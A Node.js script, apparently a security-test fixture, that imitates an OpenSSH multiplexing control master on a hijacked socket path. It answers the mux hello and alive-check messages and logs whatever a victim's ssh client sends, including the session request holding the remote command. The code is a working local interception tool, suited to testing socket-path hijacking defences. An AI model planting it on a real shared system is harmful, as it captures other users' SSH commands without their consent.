// An attacker's fake OpenSSH control master: another local user listens on the control path a
// victim's ssh will use, and writes down everything a mux client sends it. It speaks just enough of
// the protocol (openssh-portable PROTOCOL.mux, mux.c) for the client to send its session request,
// whose payload holds the remote command: MUX_MSG_HELLO answered with version 4, MUX_C_ALIVE_CHECK
// with MUX_S_ALIVE. Plain CommonJS so the user `nobody` runs it with no compile cache.
// Usage: node fakeMuxMaster.cjs <socket path> <log file>
const { createServer } = require("node:net");
const { appendFileSync, writeFileSync } = require("node:fs");

const [socketPath, log] = process.argv.slice(2);
writeFileSync(log, "");
const packet = (...words) => {
  const body = Buffer.alloc(words.length * 4);
  for (const [i, w] of words.entries()) body.writeUInt32BE(w >>> 0, i * 4);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(body.length);
  return Buffer.concat([head, body]);
};
const server = createServer((socket) => {
  let pending = Buffer.alloc(0);
  socket.on("data", (data) => {
    appendFileSync(log, `RECEIVED ${data.toString("latin1").replace(/[^\x20-\x7e]/g, ".")}\n`);
    pending = Buffer.concat([pending, data]);
    while (pending.length >= 8 && pending.length >= 4 + pending.readUInt32BE(0)) {
      const type = pending.readUInt32BE(4);
      const id = pending.length >= 12 ? pending.readUInt32BE(8) : 0;
      pending = pending.subarray(4 + pending.readUInt32BE(0));
      if (type === 0x00000001)
        socket.write(packet(0x00000001, 4)); // MUX_MSG_HELLO
      else if (type === 0x10000004)
        socket.write(packet(0x80000005, id, process.pid)); // MUX_C_ALIVE_CHECK → MUX_S_ALIVE
      else if (type === 0x10000002) appendFileSync(log, "SESSION REQUEST\n"); // MUX_C_NEW_SESSION: the command is in it
    }
  });
  socket.on("error", () => undefined);
});
server.listen(socketPath, () => process.stdout.write("listening\n"));
process.on("SIGTERM", () => process.exit(0));
